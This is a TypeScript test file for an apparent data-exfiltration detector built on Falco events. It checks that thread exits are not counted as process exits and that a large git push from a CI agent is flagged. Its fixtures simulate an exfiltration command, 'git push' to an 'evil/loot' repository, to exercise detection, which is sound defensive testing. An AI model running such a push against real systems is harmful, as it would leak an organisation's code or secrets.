/**
 * Falco's procexit fires for every thread that ends (the kernel's sched_process_exit, per task), with
 * proc.pid naming the thread's process: a worker thread of a JVM, curl's DNS resolver thread. Tetragon
 * reports a process's exit once, when it ends. A thread's exit must not end its process: for the container's
 * pid 1 (a JVM running a CI agent) it judged the container's pending pushes at the thread's exit + latenessMs,
 * before their settle time, and an upload still under way counted short.
 */
import { describe, expect, it } from 'vitest';
import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index.js';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { connectAlert, execAlert, T0 } from '../../fixtures/falco/events.js';
import { brief, MiB, run } from '../correlate/builder.js';
import { evaluate, shippedRules } from './condition-eval.js';

const norm = (text: string) => normalizeFalco(parseFalcoJson(text), { node: 'node-a' });
const at = (ms: number) => T0 + BigInt(ms) * 1_000_000n;

const JAVA = {
  'proc.pid': 4100,
  'proc.ppid': 4000,
  'proc.vpid': 1,
  'proc.exepath': '/opt/java/openjdk/bin/java',
  'proc.cmdline': 'java -jar /usr/share/jenkins/agent.jar',
  'proc.pexepath': '/usr/bin/containerd-shim-runc-v2',
  'proc.pcmdline': 'containerd-shim -namespace k8s.io',
};
const GIT = {
  'proc.pid': 4200,
  'proc.ppid': 4100,
  'proc.vpid': 40,
  'proc.exepath': '/usr/bin/git',
  'proc.cmdline': 'git push https://github.com/evil/loot.git',
  'proc.pexepath': '/opt/java/openjdk/bin/java',
  'proc.pcmdline': 'java -jar /usr/share/jenkins/agent.jar',
};
const HELPER = {
  'proc.pid': 4201,
  'proc.ppid': 4200,
  'proc.vpid': 41,
  'proc.exepath': '/usr/lib/git-core/git-remote-https',
  'proc.cmdline': 'git-remote-http origin https://github.com/evil/loot.git',
  'proc.pexepath': '/usr/bin/git',
  'proc.pcmdline': 'git push https://github.com/evil/loot.git',
};
const GITHUB = {
  ...HELPER,
  'fd.name': '10.244.1.7:51234->140.82.112.3:443',
  'fd.rip': '140.82.112.3',
  'fd.rport': 443,
};

const threadExit = (tid: number, ms: number) =>
  execAlert({ ...JAVA, 'evt.type': 'procexit', 'thread.tid': tid, 'evt.arg.ret': 0, 'evt.arg.sig': '0' }, at(ms));

describe('Falco procexit of a thread that is not its process main thread', () => {
  it('is not a process exit; the main thread ending is', () => {
    expect(norm(threadExit(4131, 0))).toBeNull();
    expect(norm(threadExit(4100, 0))?.kind).toBe('exit');
    // Rules that do not print thread.tid keep their exits.
    expect(norm(execAlert({ ...JAVA, 'evt.type': 'procexit', 'evt.arg.ret': 0 }))?.kind).toBe('exit');
  });

  it('is not emitted by the shipped exit rule (thread.ismain)', () => {
    const model = shippedRules();
    const rule = model.rule('exfilwatch process exit in container');
    const emits = (ismain: string) =>
      evaluate(model, String(rule.condition), {
        'evt.type': 'procexit',
        'thread.ismain': ismain,
        'container.id': '3f2a9c1b7d4e',
      });
    expect(emits('true')).toBe(true);
    expect(emits('false')).toBe(false);
    expect(String(rule.output)).toContain('thread.tid=%thread.tid');
  });

  it("a JVM pid 1's worker thread ending during a push does not judge the push before its settle time", () => {
    // A CI agent (java, pid 1 of its container) runs `git push` of 68 MiB at 1.8 MiB/s: 64 MiB are sent by
    // push + 36 s, within the push's time (push + pushSettleMs + latenessMs = 40 s), so bulk-push-without-reads.
    const lines = [
      execAlert({ ...JAVA }, at(0)),
      execAlert({ ...GIT }, at(1_000)),
      execAlert({ ...HELPER }, at(1_100)),
      connectAlert({ ...GITHUB }, at(1_200)),
    ];
    // A thread pool's worker of the JVM exits 2 s into the push (ThreadPoolExecutor keep-alive).
    lines.push(threadExit(4131, 3_000));
    for (let s = 0; s < 38; s++)
      lines.push(
        connectAlert({ ...GITHUB, 'evt.type': 'sendto', 'evt.rawres': Math.round(1.8 * MiB) }, at(1_300 + s * 1_000)),
      );
    // The node's other activity moves the clock on.
    for (let s = 40; s <= 120; s += 5)
      lines.push(execAlert({ ...JAVA, 'proc.pid': 9000 + s, 'proc.vpid': 900 + s }, at(s * 1_000)));
    const events = lines.map(norm).filter((e): e is NormalizedEvent => e !== null);
    const { alerts } = run(events, { batchSize: 1 });
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-push-without-reads', severity: 'medium', tool: 'git', destination: 'github.com' },
    ]);
  });
});
